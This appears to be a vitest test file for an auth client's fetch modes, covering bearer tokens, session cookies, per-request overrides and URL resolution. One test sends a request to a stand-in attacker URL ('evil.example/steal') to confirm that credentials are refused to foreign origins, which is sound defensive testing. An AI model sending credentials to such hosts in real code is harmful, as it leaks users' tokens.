import { isGatehouseClientError } from '@gatehousejs/client';
import { describe, expect, it } from 'vitest';
import { harness, RESOURCE_PATH, signIn } from '../test/support';

const RESOURCE = `http://localhost:3000${RESOURCE_PATH}`;

describe('client.fetch modes', () => {
  it('auto sends the bearer token, and no cookies, when a token set is stored', async () => {
    const h = await harness();
    const client = h.client();
    const tokens = await signIn(h, client);
    const response = await client.fetch(RESOURCE, {
      method: 'POST',
      body: '{"limit":5}',
      headers: { 'Content-Type': 'application/json' },
    });
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({ sub: 'user-1', scheme: 'bearer', body: '{"limit":5}' });
    expect(h.seen.at(-1)).toMatchObject({
      authorization: `Bearer ${tokens.accessToken}`,
      credentials: 'omit',
    });
  });

  it('auto falls back to the session cookie when there is no token set', async () => {
    const h = await harness();
    const response = await h.client().fetch(RESOURCE);
    // No cookie jar in Node: the server sees no credentials and challenges.
    expect(response.status).toBe(401);
    expect(h.seen).toHaveLength(1);
    expect(h.seen[0]).toMatchObject({ authorization: null, credentials: 'include' });
  });

  it('oauth without a token set throws no_token and sends nothing', async () => {
    const h = await harness();
    const error = await h
      .client({ mode: 'oauth' })
      .fetch(RESOURCE)
      .catch((e: unknown) => e);
    expect(isGatehouseClientError(error, 'no_token')).toBe(true);
    expect(h.seen).toHaveLength(0);
  });

  it('oauth sends the bearer token', async () => {
    const h = await harness();
    const client = h.client({ mode: 'oauth' });
    await signIn(h, client);
    const response = await client.fetch(RESOURCE);
    expect(await response.json()).toMatchObject({ scheme: 'bearer', sub: 'user-1' });
  });

  it('session sends cookies and no Authorization header even when tokens are stored', async () => {
    const h = await harness();
    const client = h.client({ mode: 'session' });
    await signIn(h, client);
    const response = await client.fetch(RESOURCE);
    expect(response.status).toBe(401);
    expect(h.seen.at(-1)).toMatchObject({ authorization: null, credentials: 'include' });
  });

  it('none sends no credentials at all', async () => {
    const h = await harness();
    const client = h.client({ mode: 'none' });
    await signIn(h, client);
    await client.fetch(RESOURCE);
    expect(h.seen.at(-1)).toMatchObject({ authorization: null, credentials: 'omit' });
  });

  it('lets one request override the default mode with `auth`', async () => {
    const h = await harness();
    const client = h.client({ mode: 'session' });
    await signIn(h, client);
    expect(await (await client.fetch(RESOURCE, { auth: 'oauth' })).json()).toMatchObject({
      scheme: 'bearer',
    });
    await client.fetch(RESOURCE, { auth: 'none' });
    expect(h.seen.at(-1)).toMatchObject({ authorization: null, credentials: 'omit' });
  });

  it('resolves relative URLs against {base_url}/ and keeps Request inputs intact', async () => {
    const h = await harness();
    const client = h.client();
    await signIn(h, client);
    await client.fetch('api/v1/whoami');
    expect(h.seen.at(-1)?.url.href).toBe(RESOURCE);
    const response = await client.fetch(new Request(RESOURCE, { method: 'POST', body: 'hello' }));
    expect(await response.json()).toMatchObject({ scheme: 'bearer', body: 'hello' });
  });

  it('refuses to send credentials to a foreign origin, unless listed in resourceOrigins', async () => {
    const h = await harness();
    const client = h.client();
    await signIn(h, client);
    const before = h.seen.length;
    const error = await client.fetch('https://evil.example/steal').catch((e: unknown) => e);
    expect(isGatehouseClientError(error, 'untrusted_origin')).toBe(true);
    expect(h.seen).toHaveLength(before);

    const trusting = h.client({ resourceOrigins: ['https://api.example'], tokenStore: undefined });
    await signIn(h, trusting);
    await trusting.fetch('https://api.example/x').catch(() => undefined);
    expect(h.seen.at(-1)?.url.origin).toBe('https://api.example');
    expect(h.seen.at(-1)?.authorization).toMatch(/^Bearer /);
  });
});
